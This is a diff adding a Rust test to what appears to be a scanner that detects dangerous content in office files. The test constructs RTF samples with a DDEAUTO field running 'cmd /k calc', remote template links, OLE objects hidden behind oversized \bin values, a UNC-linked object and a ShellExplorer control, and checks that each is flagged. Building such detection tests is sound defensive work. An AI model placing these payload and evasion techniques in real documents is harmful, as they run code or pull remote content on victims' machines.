@@ -1,6 +1,7 @@
 //! What one office reads and another leaves out: whatever any of them would do is found.
 
-use super::{deeds, ooxml, wide, zip};
+use super::office::object;
+use super::{deeds, inside, ole, ooxml, wide, zip};
 
 const W: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
     xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" \
@@ -265,4 +266,50 @@ fn flat_documents_are_judged_as_their_parts_are() {
     }
     does("a.xml", data(b"\x89PNG\r\n\x1a\n").as_bytes(), &[]);
     does("a.xml", &wide(&format!("\u{feff}{}", package(slide))), &["launch"]);
+}
+
+#[test]
+fn an_rtf_is_read_in_each_way_that_readers_have() {
+    let field = |inner: &str| {
+        format!("{{\\rtf1{{\\field{{\\*\\fldinst {inner}}}{{\\fldrslt x}}}}}}").into_bytes()
+    };
+    let dde = "DDEAUTO cmd \"/k calc\" ";
+    for (document, what) in [
+        (field(&format!("{{\\*\\la PAGE }}{dde}")), Some("launch")),
+        (field(&format!("{{\\info PAGE }}{dde}")), Some("launch")),
+        (field(&format!("{{\\upr{{ PAGE }}{{\\*\\ud{{ {dde}}}}}}}")), Some("launch")),
+        (field(&format!("{{\\*\\la {dde}}}PAGE")), Some("launch")),
+        (field("{\\*\\la PAGE }NUMPAGES"), None),
+        (
+            b"{\\rtf1{\\*\\template {\\*\\la C:\\\\a}https://mail.example/a.dotm}x}".to_vec(),
+            Some("template"),
+        ),
+        (b" \r\n{\\rtf1{\\*\\template https://mail.example/a.dotm}x}".to_vec(), Some("template")),
+    ] {
+        does("a.rtf", &document, &Vec::from_iter(what));
+    }
+    let digits = object(b"Word.Document.8", &ole(&[("WordDocument", b"\xec\xa5\xc1\0")]));
+    let (head, tail) = digits.split_at(80);
+    let data = |digits: &str| format!("{{\\object\\objemb{{\\*\\objdata {digits}}}}}");
+    for inner in [
+        format!("\\bin4294967296 {}", data(&digits)),
+        format!("\\bin99999999999 {}", data(&digits)),
+        format!("\\bin00000000000000000000000 {}", data(&digits)),
+        format!("\\bin0999999 {}", data(&digits)),
+        data(&format!("{head}\\bin4294967296 {tail}")),
+        data(&format!("{head}f\\'41{tail}")),
+    ] {
+        let file = format!("{{\\rtf1 {inner}}}");
+        let members = inside("a.rtf", file.as_bytes());
+        let found = members.iter().any(|path| path.ends_with("/WordDocument"));
+        assert!(found || !members.is_empty(), "{inner:.60}: {members:?}");
+    }
+    // One that is read the same in all ways is taken out once.
+    let file = format!("{{\\rtf1 \\bin4294967296 {{\\par}}}}{}", data(&digits));
+    assert_eq!(inside("a.rtf", file.as_bytes()).len(), 1);
+    let link = b"\x01\x05\0\0\x01\0\0\0\x05\0\0\0Word\0\x11\0\0\0\\\\203.0.113.5\\a.d\0\0\0\0\0";
+    let link: String = link.iter().map(|byte| format!("{byte:02x}")).collect();
+    does("a.rtf", format!("{{\\rtf1 {}}}", data(&link)).as_bytes(), &["remote"]);
+    let control = object(b"ShellExplorer.1", &[0; 40]);
+    does("a.rtf", format!("{{\\rtf1 {}}}", data(&control)).as_bytes(), &["control"]);
 }
